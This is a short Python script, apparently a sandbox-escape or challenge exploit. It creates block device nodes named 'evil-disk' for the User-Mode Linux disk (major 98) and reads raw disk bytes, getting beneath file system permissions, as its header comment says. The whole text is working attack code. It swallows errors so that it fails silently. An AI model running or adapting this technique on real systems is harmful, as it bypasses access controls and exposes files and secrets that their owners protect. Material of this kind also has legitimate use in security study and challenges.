# The disk below the file system's rights.
import os
for path in ("/dev/ubda", "/tmp/evil-disk", "evil-disk"):
    try:
        if not path.startswith("/dev"): os.mknod(path, 0o60600, os.makedev(98, 0))
        print(open(path, "rb").read(65536).decode("latin1").replace("\0", ""))
    except OSError: pass
